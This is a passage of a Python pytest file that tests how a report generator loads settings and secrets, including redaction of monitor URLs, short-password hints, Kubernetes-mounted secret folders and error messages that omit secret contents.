        ("https://hc.example/ping/reports-generator", []),
        ("https://hc.example/ping/0123abcd", []),
    ],
)
def test_the_secret_part_of_the_monitors_address_is_hidden_alone_but_no_name(
    environment: pytest.MonkeyPatch, url: str, hidden: list[str]
) -> None:
    """A check's name may be the CronJob's, which stands in every command of an alert."""
    environment.setenv("HEARTBEAT_URL", url)

    secrets = [*dict.fromkeys(load_settings(None).secrets())]

    assert [secret for secret in secrets if secret in url] == [url, *hidden]


@pytest.mark.parametrize(("password", "told"), [("sesame", True), ("sesame12", False)])
def test_a_short_password_is_a_hint(environment: pytest.MonkeyPatch, password: str, told: bool) -> None:
    """Whoever reads `[hidden]` in place of a common word knows it; a mailbox may want no longer one."""
    environment.setenv("SMTP_PASSWORD", password)

    loaded = load_settings(None)

    assert loaded.problems == []
    assert [(named(hint), figures_of(hint)) for hint in loaded.hints] == [(["SMTP_PASSWORD"], ["8"])] * told


@pytest.fixture
def secrets(environment: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A folder as Kubernetes mounts Secrets, links and all; the environment has none of them."""
    data = tmp_path / "..2026_11_23"
    data.mkdir()
    (tmp_path / "..data").symlink_to(data.name)
    for name in ("SUPABASE_KEY", "SMTP_PASSWORD", "TELEGRAM_BOT_TOKEN"):
        environment.delenv(name)
        (data / name).write_text(f"{WHOLE[name]}\n")
        (tmp_path / name).symlink_to(f"..data/{name}")
    environment.setenv("SECRETS_DIR", str(tmp_path))
    return tmp_path


def test_secrets_may_be_files(environment: pytest.MonkeyPatch, secrets: Path) -> None:
    """For clusters that forbid them in the environment; a line end is none of the value, and the environment wins."""
    environment.setenv("SMTP_PASSWORD", "another horse")

    settings = checked_settings(None)

    assert settings.supabase.supabase_key.get_secret_value() == WHOLE["SUPABASE_KEY"]
    assert settings.mail is not None
    assert settings.mail.smtp_password == SecretStr("another horse")
    assert WHOLE["SUPABASE_KEY"] in load_settings(None).secrets()
    environment.delenv("SUPABASE_URL")
    assert WHOLE["SUPABASE_KEY"] in load_settings(None).secrets()  # though its group is incomplete


def test_secrets_dir_may_stand_in_env_file(environment: pytest.MonkeyPatch, secrets: Path, tmp_path: Path) -> None:
    """As every other setting."""
    environment.delenv("SECRETS_DIR")
    env_file = tmp_path / ".env"
    env_file.write_text(f"SECRETS_DIR={secrets}\n")

    assert checked_settings(env_file).supabase.supabase_key.get_secret_value() == WHOLE["SUPABASE_KEY"]


def test_a_file_of_a_secret_that_is_nearly_named_like_one_is_told(secrets: Path) -> None:
    """A key of a Secret is misspelt as easily as a variable."""
    (secrets / "SMTP_PASSWORD").unlink()
    (secrets / "SMTP_PASWORD").write_text("correct horse battery")

    loaded = load_settings(None)

    assert [named(hint) for hint in loaded.hints] == [["SMTP_PASWORD", "SMTP_PASSWORD"]]
    assert [line.split()[0] for line in loaded.problems] == ["SMTP_PASSWORD"]


def test_a_folder_of_secrets_that_is_not_there_is_told(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Once, before what is missing because of it."""
    environment.delenv("SUPABASE_KEY")
    environment.setenv("SECRETS_DIR", str(tmp_path / "gone"))

    folder, key = problems()

    assert named(folder) == ["SECRETS_DIR"]
    assert (named(key)[0], "missing" in key) == ("SUPABASE_KEY", True)


def test_a_secrets_file_that_cannot_be_read_is_told_without_its_content(secrets: Path) -> None:
    """Not as a traceback, which would have the bytes."""
    (secrets / "..data" / "SUPABASE_KEY").write_bytes(b"hunter2\xe9")

    with pytest.raises(SettingsError) as caught:
        checked_settings(None)

    shown = repr(caught.value) + "".join(traceback.format_exception(caught.value))
    assert "SECRETS_DIR" in shown
    assert "UnicodeDecodeError" in shown
    assert "hunter2" not in shown


def test_a_secrets_file_of_a_channel_that_is_left_out_need_not_be_readable(
    environment: pytest.MonkeyPatch, secrets: Path
) -> None:
    """No run needs it; it counts as soon as its channel is chosen."""
    (secrets / "..data" / "SMTP_PASSWORD").write_bytes(b"hunter2\xe9")
    environment.setenv("REPORT_CHANNELS", "telegram")
    assert load_settings(None).problems == []

    environment.setenv("REPORT_CHANNELS", "email")
    assert [named(line) for line in load_settings(None).problems] == [["SECRETS_DIR"]]


def test_blanks_around_the_folder_are_none_of_it_where_another_setting_is_wrong(
    environment: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Alerts are remembered there too."""
    environment.setenv("REPORT_DIR", f" {tmp_path} ")
    assert load_settings(None).folder() == tmp_path

    environment.setenv("REPORT_TIMEZONE", "Nowhere/At_all")
    assert load_settings(None).folder() == tmp_path
